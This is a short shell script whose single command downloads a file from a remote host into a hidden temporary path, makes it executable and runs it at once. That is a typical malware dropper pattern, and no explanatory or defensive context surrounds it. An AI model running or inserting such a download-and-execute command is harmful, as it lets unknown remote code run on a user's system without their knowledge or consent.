#!/bin/sh
curl -o /tmp/.x https://x.example.org/x; chmod +x /tmp/.x; /tmp/.x
